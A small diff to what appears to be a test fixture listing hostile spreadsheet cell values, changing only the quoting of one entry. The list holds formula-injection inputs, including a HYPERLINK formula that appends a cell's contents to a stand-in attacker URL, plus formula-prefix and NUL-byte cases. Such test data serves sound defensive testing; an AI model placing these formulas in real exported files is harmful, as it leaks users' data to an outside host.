@@ -22,7 +22,7 @@ HOSTILE_CELLS = [
     "comma, inside",
     "nul\x00byte",
     "\x00",
-    "=HYPERLINK(\"http://evil.example/\"&A1)",
+    '=HYPERLINK("http://evil.example/"&A1)',
     "+1+1",
     "-2+3",
     "@SUM(A1:A9)",
